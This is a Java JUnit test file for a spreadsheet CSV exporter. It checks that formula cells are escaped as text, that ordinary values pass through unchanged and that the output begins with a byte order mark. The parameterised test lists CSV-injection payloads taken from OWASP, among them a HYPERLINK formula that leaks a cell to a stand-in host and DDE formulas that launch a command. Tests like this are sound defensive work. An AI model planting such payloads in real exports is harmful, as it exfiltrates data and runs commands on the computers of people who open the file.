package de.globallokal.support.export;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCsvTests {

    /** The payloads of OWASP's CSV-injection page, and the starts it names. */
    @ParameterizedTest
    @ValueSource(strings = { "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: please click\")",
            "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "=1+2\";=1+2", "\uFF1D1+1" })
    void aFormulaIsWrittenAsText(String payload) throws IOException {
        String table = table(payload);

        CSVRecord row = read(table).get(0);
        assertThat(row.get("name")).isEqualTo("'" + payload);
    }

    @Test
    void plainTextAndNumbersStayAsTheyAre() throws IOException {
        StringBuilder out = new StringBuilder();
        try (SpreadsheetCsv csv = SpreadsheetCsv.open(out, "name", "amount")) {
            csv.row("Müller, Anna", -12);
            csv.row("a-b=c", null);
        }

        List<CSVRecord> rows = read(out.toString());
        assertThat(rows.get(0).values()).containsExactly("Müller, Anna", "-12");
        assertThat(rows.get(1).values()).containsExactly("a-b=c", "");
    }

    @Test
    void startsWithAByteOrderMarkForSpreadsheetPrograms() {
        assertThat(table("x")).startsWith("\uFEFFname\r\n");
    }

    private static String table(String name) {
        StringBuilder out = new StringBuilder();
        try (SpreadsheetCsv csv = SpreadsheetCsv.open(out, "name")) {
            csv.row(name);
        }
        return out.toString();
    }

    private static List<CSVRecord> read(String table) throws IOException {
        return CSVFormat.DEFAULT.builder().setHeader().get().parse(new StringReader(table.substring(1))).getRecords();
    }

}
